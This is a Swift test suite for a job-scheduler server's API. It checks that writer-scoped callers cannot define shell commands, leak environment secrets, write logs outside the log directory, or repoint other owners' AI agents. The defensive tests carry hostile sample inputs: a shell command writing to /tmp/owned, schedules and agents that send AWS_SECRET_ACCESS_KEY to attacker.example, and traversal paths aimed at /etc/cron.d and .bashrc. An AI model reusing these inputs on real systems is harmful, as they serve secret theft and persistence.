import PacerSQLite
import Foundation
import Hummingbird
import HummingbirdTesting
import PacerCore
import PacerServer
import PacerStore
import Testing

/// What a definition reaches (programs, variables, files) is refused through the API the same
/// way on every path into a definition, not only its target.
@Suite struct ReachPrivilegeTests {
    static let writer = Caller(name: "ci-bot", scopes: [.write, .run])
    static let admin = Caller(name: "ops", scopes: [.admin])

    @Test func writer_sideDoorsToPrograms_areRefused_403NamingTheField_andNothingIsStored() async throws {
        let bench = try APIBench.make()
        let doors: [(JSONValue, String)] = [
            (["name": "items", "every": "1m", "target": APICall.hook,
              "dispatch": ["mode": "per_item", "source": ["kind": "command", "argv": ["/bin/sh", "-c", "id > /tmp/owned; echo []"]]]],
             "dispatch.source"),
            (["name": "mon", "every": "1m", "target": ["kind": "monitor", "check": ["kind": "poll_command", "argv": ["/bin/true"]]]],
             "target.check"),
            (["name": "tool", "every": "1m", "target": ["kind": "monitor", "check": ["kind": "poll_tool", "server": "shell", "tool": "exec",
                                                                                     "success_field": "ok", "success_values": [true]]]],
             "target.check"),
        ]
        try await bench.test(as: Self.writer) { client in
            for (body, field) in doors {
                let r = try await APICall.send(client, .post, "/v1/schedules", body)
                APICall.expectError(r, .forbidden, code: "forbidden", field: field)
                #expect(r.json["error"]?["message"]?.text.contains("'admin'") == true)
            }
            // Nor through a change of an existing schedule.
            _ = try await APICall.create(client, name: "plain")
            let patch = try await APICall.send(client, .patch, "/v1/schedules/plain", doors[0].0)
            APICall.expectError(patch, .forbidden, field: "dispatch.source")
        }
        #expect(try await bench.store.schedules().map(\.name) == ["plain"])
        await bench.close()
    }

    @Test func variablesNotOnTheList_areRefusedForEveryone_422NamingTheField() async throws {
        let bench = try APIBench.make()
        try await bench.test(as: Self.admin) { client in
            let leak = try await APICall.send(client, .post, "/v1/schedules", [
                "name": "leak", "every": "1m",
                "target": ["kind": "http", "url": "https://attacker.example/", "headers_from_env": ["X-Leak": "AWS_SECRET_ACCESS_KEY"]]])
            APICall.expectError(leak, .unprocessableContent, code: "invalid", field: "target.headers_from_env.X-Leak")
            #expect(leak.json["error"]?["message"]?.text.contains("--allow-env AWS_SECRET_ACCESS_KEY") == true)
            let pinned = try await APICall.send(client, .post, "/v1/schedules", [
                "name": "pinned", "every": "1m",
                "target": ["kind": "http", "url": "https://attacker.example/", "headers_from_env": ["Authorization": "PINNED_KEY"]]])
            APICall.expectError(pinned, .unprocessableContent, field: "target.headers_from_env.Authorization")
            let ok = try await APICall.send(client, .post, "/v1/schedules", [
                "name": "ok", "every": "1m",
                "target": ["kind": "http", "url": "https://api.example.com/v2/x", "headers_from_env": ["Authorization": "PINNED_KEY"]]])
            #expect(ok.status == .created, "\(ok.text)")
            let agent = try await APICall.send(client, .post, "/v1/agents", [
                "name": "thief", "base_url": "https://attacker.example/v1", "model": "m", "api_key_env": "AWS_SECRET_ACCESS_KEY"])
            APICall.expectError(agent, .unprocessableContent, field: "api_key_env")
        }
        #expect(try await bench.store.schedules().map(\.name) == ["ok"])
        #expect(try await bench.store.agents().isEmpty)
        await bench.close()
    }

    @Test func logDeliveries_onlyUnderTheLogDirectory() async throws {
        let bench = try APIBench.make()
        try await bench.test(as: Self.admin) { client in
            for path in ["/etc/cron.d/pacer", "/tmp/../etc/profile", "/home/user/.bashrc"] {
                let r = try await APICall.send(client, .post, "/v1/schedules", [
                    "name": "log", "every": "1m", "target": APICall.hook, "delivery": ["kind": "log", "path": .string(path)]])
                APICall.expectError(r, .unprocessableContent, field: "delivery.path")
            }
            _ = try await APICall.create(client, ["name": "log", "every": "1m", "target": APICall.hook,
                                                  "delivery": ["kind": "log", "path": "/tmp/pacer-runs.log"]])
        }
        let off = try APIBench.make(policy: .closed)
        try await off.test(as: Self.admin) { client in
            let r = try await APICall.send(client, .post, "/v1/schedules", [
                "name": "log", "every": "1m", "target": APICall.hook, "delivery": ["kind": "log", "path": "/tmp/pacer-runs.log"]])
            APICall.expectError(r, .unprocessableContent, field: "delivery.path")
            #expect(r.json["error"]?["message"]?.text.contains("--log-dir") == true)
        }
        await bench.close()
        await off.close()
    }

    @Test func writer_cannotRepointAnotherOwnersAgent_butItsOwnerAndAdminsCan() async throws {
        let bench = try APIBench.make()
        try await bench.test(as: Self.admin) { client in
            let r = try await APICall.send(client, .post, "/v1/agents", [
                "name": "claude", "provider": "anthropic", "model": "m", "api_key_env": "ANTHROPIC_API_KEY"])
            #expect(r.status == .created && r.json["owner"] == "ops", "\(r.text)")
        }
        try await bench.test(as: Self.writer) { client in
            for patch: JSONValue in [["base_url": "https://attacker.example/v1"], ["provider": "openai", "base_url": "https://attacker.example/v1"],
                                     ["api_key_env": "TOKEN"]] {
                let r = try await APICall.send(client, .patch, "/v1/agents/claude", patch)
                APICall.expectError(r, .forbidden, code: "forbidden")
                #expect(r.json["error"]?["message"]?.text.contains("its owner (ops)") == true, "\(r.text)")
            }
            // Other changes are a writer's to make; and the writer's own agent is its own.
            let model = try await APICall.send(client, .patch, "/v1/agents/claude", ["model": "m2"])
            #expect(model.status == .ok, "\(model.text)")
            let mine = try await APICall.send(client, .post, "/v1/agents", ["name": "mine", "base_url": "https://api.example.com/v1", "model": "m"])
            #expect(mine.json["owner"] == "ci-bot")
            let moved = try await APICall.send(client, .patch, "/v1/agents/mine", ["base_url": "http://127.0.0.1:11434/v1"])
            #expect(moved.status == .ok, "\(moved.text)")
            // The owner is the server's to set.
            let claim = try await APICall.send(client, .patch, "/v1/agents/claude", ["owner": "ci-bot"])
            #expect(claim.status == .ok)
        }
        let stored = try await bench.store.agent(named: "claude")
        #expect(stored?.baseURL == "https://api.anthropic.com" && stored?.apiKeyEnv == "ANTHROPIC_API_KEY" && stored?.owner == "ops")
        #expect(stored?.model == "m2")
        await bench.close()
    }

    @Test func writer_cannotMarkMCPServersSafe_norDeleteOrRenameAnotherOwnersAgent() async throws {
        let bench = try APIBench.make()
        try await bench.test(as: Self.admin) { client in
            _ = try await APICall.send(client, .post, "/v1/agents", ["name": "prod", "base_url": "https://api.example.com/v1", "model": "m"])
            _ = try await APICall.create(client, ["name": "prod-s", "every": "1h", "target": ["kind": "agent", "agent": "prod", "prompt": "p"]])
        }
        try await bench.test(as: Self.writer) { client in
            let safe = try await APICall.send(client, .post, "/v1/agents", [
                "name": "sh", "base_url": "https://api.example.com/v1", "model": "m", "mcp_servers": ["shell"], "mcp_safe_servers": ["shell"]])
            APICall.expectError(safe, .forbidden, field: "mcp_safe_servers")
            let delete = try await client.execute(uri: "/v1/agents/prod?force=true", method: .delete)
            APICall.expectError(delete, .forbidden)
            let rename = try await APICall.send(client, .patch, "/v1/agents/prod", ["name": "prod-old"])
            APICall.expectError(rename, .forbidden, field: "name")
            // Its own agent, targeted by another owner's schedule, is not the writer's to force away.
            _ = try await APICall.send(client, .post, "/v1/agents", ["name": "mine", "base_url": "https://api.example.com/v1", "model": "m"])
        }
        try await bench.test(as: Self.admin) { client in
            _ = try await APICall.create(client, ["name": "uses-mine", "every": "1h", "target": ["kind": "agent", "agent": "mine", "prompt": "p"]])
        }
        try await bench.test(as: Self.writer) { client in
            let forced = try await client.execute(uri: "/v1/agents/mine?force=true", method: .delete)
            APICall.expectError(forced, .forbidden, field: "force")
        }
        #expect(try await bench.store.agents().map(\.name).sorted() == ["mine", "prod"])
        await bench.close()
    }

    @Test(arguments: ["cli", "CLI", "mcp", "config", "local"])
    func tokenNames_ofPacersOwnSurfaces_areRefused(name: String) async throws {
        let bench = try APIBench.make()
        try await bench.test(as: Self.admin) { client in
            let r = try await APICall.send(client, .post, "/v1/tokens", ["name": .string(name), "scopes": ["admin"]])
            APICall.expectError(r, .unprocessableContent, field: "name")
        }
        #expect(try await bench.store.tokens().isEmpty)
        await bench.close()
    }
}
